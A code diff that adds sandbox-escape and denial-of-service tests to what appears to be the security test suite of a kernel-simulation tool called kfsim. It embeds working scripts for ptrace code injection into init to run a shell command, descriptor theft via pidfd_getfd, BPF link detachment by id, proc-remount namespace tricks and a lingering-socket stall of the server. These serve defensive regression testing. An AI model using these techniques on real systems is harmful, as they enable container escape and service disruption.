@@ -1184,6 +1184,83 @@ def attack_refused_flood():
     stop_server(proc)
 
 
+def lingering_socket(linger):
+    """A TCP socket whose close() waits @linger s: unsent data to a peer that never reads."""
+    lst = socket.socket()
+    lst.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # the peer's window: small
+    lst.bind(("127.0.0.1", 0))
+    lst.listen(1)
+    t = socket.socket()
+    t.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
+    t.connect(lst.getsockname())
+    peer, _ = lst.accept()
+    t.setblocking(False)
+    for _ in range(20):  # until the peer's window is shut and our buffer full
+        try:
+            while True:
+                t.send(bytes(65536))
+        except BlockingIOError:
+            time.sleep(0.01)
+    t.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, linger))
+    return t, (lst, peer)
+
+
+def hand_over_lingering(path, where):
+    """As nobody: pass the server a lingering socket on its control or data connection, close
+    ours, and time a --get-plca-cfg of our own meanwhile.  The socket travels inside another
+    (in flight in its queue), so that the server's close is the last, whenever it comes."""
+    tcp, keep = lingering_socket(4)
+    inner, t = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
+    socket.send_fds(inner, [b"x"], [tcp.fileno()])
+    tcp.close()
+    inner.close()
+    ctl = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
+    ctl.connect(path)
+    req = struct.pack("=5I", MAGIC, VERSION, OP_OPEN, 0, NETLINK_GENERIC)
+    try:
+        if where == "control":
+            socket.send_fds(ctl, [req], [t.fileno()])
+        else:
+            ctl.send(req)
+            _, fds, _, _ = socket.recv_fds(ctl, 12, 1)
+            data = socket.socket(fileno=fds[0])
+            socket.send_fds(data, [getfamily_dump(1)], [t.fileno()])
+        sent = "accepted"
+    except OSError as e:
+        sent = ename(e.errno)
+        _, fds, _, _ = socket.recv_fds(t, 1, 1)  # ours again: reset, not lingered
+        tcp = socket.socket(fileno=fds[0])
+        tcp.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
+        tcp.close()
+    t.close()
+    time.sleep(0.3)
+    rc, _, took = run([KFSIM, "ethtool", "--server", path, "--get-plca-cfg", "eth0"])
+    return {"sent": sent, "rc": rc, "took": round(took, 3)}
+
+
+def attack_passed_fds():
+    """A descriptor a client sends along does not reach the server, whose close() of it would
+    run its release in the thread that runs the kernel: a socket lingering on close held it."""
+    print("descriptors passed to the server:")
+    path = os.path.join(tmp, "passed.sock")
+    start_server(path)
+    probe = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
+    try:  # SO_PASSRIGHTS, Linux 6.16: before it the kernel delivers them whatever we do
+        probe.setsockopt(socket.SOL_SOCKET, 83, 0)
+        refusable = True
+    except OSError:
+        refusable = False
+    probe.close()
+    for where in ("control", "data"):
+        r = as_nobody(hand_over_lingering, 20, path, where) or {}
+        check(f"nobody's socket lingering 4 s, passed on the {where} connection",
+              (r.get("sent") == "EPERM" or not refusable) and r.get("rc") == 0 and
+              r.get("took", 9) < 2,
+              f"sendmsg {r.get('sent')}, then --get-plca-cfg exit {r.get('rc')} in "
+              f"{r.get('took')} s" + ("" if refusable else
+                                      " (kernel before 6.16: no SO_PASSRIGHTS, not covered)"))
+
+
 def attack_inproc_kernel():
     """The kernel the shim starts inside a program serves that program alone."""
     print("the shim's own kernel, on an abstract name anyone can list:")
@@ -1545,6 +1622,191 @@ def attack_host_network():
         run(["ip", "netns", "del", ns])
 
 
+PTRACE_INIT = r"""
+import ctypes, os, struct, sys
+libc = ctypes.CDLL(None, use_errno=True)
+libc.ptrace.restype = ctypes.c_long
+libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_ulong, ctypes.c_ulong]
+def pt(req, addr=0, data=0):
+    r = libc.ptrace(req, 1, addr, data)
+    if r == -1 and ctypes.get_errno():
+        sys.exit(f"ptrace init: request {req:#x}: {os.strerror(ctypes.get_errno())}")
+    return r
+pt(0x4206)                                  # PTRACE_SEIZE init, the program's parent
+pt(0x4207)                                  # PTRACE_INTERRUPT: stopped in its wait()
+os.waitpid(1, 0x40000000)                   # __WALL
+regs = (ctypes.c_ulong * 27)()              # struct user_regs_struct
+pt(12, 0, ctypes.addressof(regs))           # PTRACE_GETREGS
+RAX, ORIG_RAX, RIP, RSP, RDI, RSI, RDX = 10, 15, 16, 19, 14, 13, 12
+base = (regs[RSP] - 16384) & ~15            # argv and strings below its stack
+strs, addrs, blob = [b"/bin/sh", b"-c", " ".join(sys.argv[1:]).encode(), b"PATH=/usr/sbin:/usr/bin"], [], b""
+for text in strs:
+    addrs.append(base + 64 + len(blob)); blob += text + b"\0"
+data = struct.pack("6Q", addrs[0], addrs[1], addrs[2], 0, addrs[3], 0) + bytes(16) + blob
+data += bytes(-len(data) % 8)
+for i in range(0, len(data), 8):
+    pt(5, base + i, struct.unpack_from("<Q", data, i)[0])   # PTRACE_POKEDATA
+if pt(2, regs[RIP] - 2) & 0xffff != 0x050f:                 # PEEKDATA: "syscall" before rip
+    sys.exit("ptrace init: no syscall instruction before rip")
+regs[RIP] -= 2; regs[RAX] = 59; regs[ORIG_RAX] = 2**64 - 1  # execve, no restart
+regs[RDI], regs[RSI], regs[RDX] = addrs[0], base, base + 32
+pt(13, 0, ctypes.addressof(regs))           # PTRACE_SETREGS
+pt(0x11)                                    # PTRACE_DETACH
+print("ptrace init: init runs the command")
+"""
+
+PIDFD_GETFD = r"""
+import ctypes, errno, os, socket, stat, struct, sys
+libc = ctypes.CDLL(None, use_errno=True)
+s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
+s.connect(sys.argv[1])
+pidfd = struct.unpack("i", s.getsockopt(socket.SOL_SOCKET, 77, 4))[0]  # SO_PEERPIDFD
+nr = {"x86_64": 16, "aarch64": 29}[os.uname().machine]                 # SYS_ioctl
+out = set()
+for target in range(32):
+    fd = libc.syscall(438, pidfd, target, 0)                           # pidfd_getfd
+    if fd < 0:
+        out.add(errno.errorcode[ctypes.get_errno()])
+        continue
+    if stat.S_ISSOCK(os.fstat(fd).st_mode):                            # made outside: its netns
+        buf = ctypes.create_string_buffer(struct.pack("16si20x", b"vk0", 1333), 40)
+        r = libc.syscall(nr, fd, 0x8922, buf)                          # SIOCSIFMTU vk0 1333
+        out.add("SIOCSIFMTU " + ("done" if r == 0 else errno.errorcode[ctypes.get_errno()]))
+print("pidfd_getfd:", " ".join(sorted(out)))
+"""
+
+BPF_HOLD_XDP = r"""
+import ctypes, os, struct, sys, time
+libc = ctypes.CDLL(None, use_errno=True)
+nr = {"x86_64": 321, "aarch64": 280}[os.uname().machine]              # SYS_bpf
+def bpf(cmd, attr):
+    r = libc.syscall(nr, cmd, ctypes.create_string_buffer(attr, 128), 128)
+    if r < 0:
+        sys.exit(f"bpf {cmd}: {os.strerror(ctypes.get_errno())}")
+    return r
+insns = ctypes.create_string_buffer(struct.pack("<BBhiBBhi", 0xb7, 0, 0, 2, 0x95, 0, 0, 0))
+lic = ctypes.create_string_buffer(b"GPL")                              # r0 = XDP_PASS; exit
+prog = bpf(5, struct.pack("IIQQIIQII16sII", 6, 2, ctypes.addressof(insns), ctypes.addressof(lic),
+                          0, 0, 0, 0, 0, b"kfsim_attack", 0, 37))      # PROG_LOAD, BPF_XDP
+link = bpf(28, struct.pack("IIII", prog, int(sys.argv[1]), 37, 0))    # LINK_CREATE on the device
+info = ctypes.create_string_buffer(64)
+bpf(15, struct.pack("IIQ", link, 64, ctypes.addressof(info)))         # OBJ_GET_INFO_BY_FD
+print(struct.unpack_from("II", info.raw)[1], flush=True)              # the link's id
+time.sleep(300)                                                       # killed when done
+"""
+
+BPF_DETACH_BY_ID = r"""
+import ctypes, os, struct, sys
+libc = ctypes.CDLL(None, use_errno=True)
+nr = {"x86_64": 321, "aarch64": 280}[os.uname().machine]
+fd = libc.syscall(nr, 30, ctypes.create_string_buffer(struct.pack("I", int(sys.argv[1])), 128), 128)
+if fd < 0:                                                            # LINK_GET_FD_BY_ID
+    sys.exit("bpf link by id: " + os.strerror(ctypes.get_errno()))
+r = libc.syscall(nr, 34, ctypes.create_string_buffer(struct.pack("I", fd), 128), 128)
+print("bpf link detach:", "done" if r == 0 else os.strerror(ctypes.get_errno()))
+"""
+
+
+def attack_exec_descriptors():
+    """Root's program under kfsim exec reaches no other namespace's devices by descriptor: not by
+    ptracing its init out of the seccomp filter, not by pidfd_getfd() of a listener's sockets,
+    not by a BPF link's id, not through the machine's proc left under a later mount."""
+    print("ways back from kfsim exec by descriptor:")
+    ns = f"kfsim-desc-{os.getpid()}"
+    if run(["ip", "netns", "add", ns])[0] != 0:
+        check("a throw-away network namespace", False, "ip netns add failed")
+        return
+    procs = []
+    try:
+        # the namespace stands for the machine: vk0 is a real interface
+        run(["ip", "-n", ns, "link", "add", "vk0", "type", "veth", "peer", "name", "vk1"])
+        nsx = ["ip", "netns", "exec", ns]
+        def state():
+            return (run(["ip", "-n", ns, "-d", "-o", "link"])[1] +
+                    run(["ip", "-n", ns, "-o", "addr"])[1])
+        def started(argv, path=None, **kw):
+            procs.append(subprocess.Popen(nsx + argv, **kw))
+            for _ in range(150):
+                if path is None or os.path.exists(path):
+                    break
+                time.sleep(0.02)
+            return procs[-1]
+        listening = os.path.join(tmp, "desc-listener.sock")
+        started([sys.executable, "-c", LISTENER, listening], listening)
+        served = os.path.join(tmp, "desc-kernel.sock")
+        started([KFSIM, "kernel", "--listen", served], served, stdout=subprocess.DEVNULL,
+                stderr=subprocess.DEVNULL)
+        resident = started(["sleep", "300"])  # killed when done, however loaded the machine
+        index = run(["ip", "-n", ns, "-o", "link", "show", "vk0"])[1].split(":")[0]
+        holder = started([sys.executable, "-c", BPF_HOLD_XDP, index], stdout=subprocess.PIPE,
+                         text=True)
+        link_id = holder.stdout.readline().strip()
+        before = state()
+        outs = []
+        def under_exec(name, argv, wrap=None):
+            cmd = nsx + (wrap or []) + [KFSIM, "exec", "--"] + argv
+            rc, out, took = run(cmd, env=exec_env())
+            outs.append(f"{name}: exit {rc} {out.strip().splitlines()[-1:]} ({took:.1f} s)")
+        if os.uname().machine == "x86_64":
+            under_exec("ptrace init, then setns by peer pidfd",
+                       [sys.executable, "-c", PTRACE_INIT, sys.executable, "-c",
+                        f"'{SETNS_BY_PEER_PIDFD}'", listening, "ip", "link", "set", "vk0", "mtu",
+                        "1222"])
+        for victim in (listening, served):
+            under_exec(f"pidfd_getfd of {os.path.basename(victim)}",
+                       [sys.executable, "-c", PIDFD_GETFD, victim])
+        if link_id.isdigit():
+            under_exec("bpf link by id", [sys.executable, "-c", BPF_DETACH_BY_ID, link_id])
+        else:
+            outs.append(f"bpf link: none made here ({holder.poll()})")
+        # the machine's proc under a tmpfs on the same directory, and under one above it
+        x, y = os.path.join(tmp, "desc-x"), os.path.join(tmp, "desc-y")
+        os.makedirs(os.path.join(y, "p"), exist_ok=True)
+        os.makedirs(x, exist_ok=True)
+        mounts = (f"mount -t proc proc {x} && mount -t tmpfs none {x} && "
+                  f"mount -t proc proc {y}/p && mount -t tmpfs none {y} && mkdir {y}/p && ")
+        program = (f"ip link add vkx type ifb; ip link set vkx netns {x}/{resident.pid}/ns/net; "
+                   f"umount {y}; ip link add vky type ifb; "
+                   f"ip link set vky netns {y}/p/{resident.pid}/ns/net")
+        rc, out, took = run(nsx + ["unshare", "-m", "--propagation", "private", "sh", "-c",
+                                   mounts + f"exec {KFSIM} exec -- sh -c '{program}'"],
+                            env=exec_env())
+        outs.append(f"proc under later mounts: exit {rc} {out.strip().splitlines()[-1:]} "
+                    f"({took:.1f} s)")
+        rc, out, _ = run([KFSIM, "exec", "--", "grep", "-h", "Seccomp:", "/proc/1/status",
+                          "/proc/self/status"], env=exec_env())
+        filtered = out.split().count("2") == 2
+        after = state()
+        check("ptrace of init, pidfd_getfd, a bpf link by id and proc under a later mount "
+              "reach no other namespace", before == after and "xdp" in after and filtered,
+              f"{'unchanged' if before == after else 'CHANGED: ' + after}; init and program "
+              f"{'both' if filtered else 'NOT both'} filtered; " + "; ".join(outs))
+    finally:
+        for p in procs:
+            p.kill()
+            p.wait()
+        run(["ip", "netns", "del", ns])
+
+
+def attack_exec_sysfs():
+    """kfsim exec's /sys shows the machine's buses and drivers: a driver's unbind file takes a
+    real NIC away, so it is read-only (a name no device has is written: harmless either way)."""
+    print("the machine's drivers in kfsim exec's /sys:")
+    binds = [os.path.join(d, "bind") for d in sorted(
+        os.path.join("/sys/bus", bus, "drivers", drv)
+        for bus in os.listdir("/sys/bus") if os.path.isdir(f"/sys/bus/{bus}/drivers")
+        for drv in os.listdir(f"/sys/bus/{bus}/drivers"))
+        if os.path.exists(os.path.join(d, "bind"))][:1]
+    if not binds:
+        check("a driver's bind file", True, "none on this machine: nothing to write")
+        return
+    rc, out, _ = run([KFSIM, "exec", "--", "sh", "-c",
+                      f"echo kfsim-no-such-device > {binds[0]}; "
+                      "echo 999 > /sys/class/net/lo/tx_queue_len"], env=exec_env())
+    check("a driver's bind file and lo's attributes are not writable",
+          out.count("Read-only file system") == 2, f"{binds[0]}: exit {rc} {out.strip()}")
+
+
 IOCTLS_ON_ETH3 = r"""
 import errno, fcntl, socket, struct
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
@@ -1659,6 +1921,8 @@ ATTACKS = {
     "config": attack_config_file,
     "shim": attack_shim_sockets, "interface": attack_real_interface, "exec": attack_exec,
     "host_network": attack_host_network, "exec_signals": attack_exec_signals,
+    "exec_descriptors": attack_exec_descriptors, "passed_fds": attack_passed_fds,
+    "exec_sysfs": attack_exec_sysfs,
 }
 
 
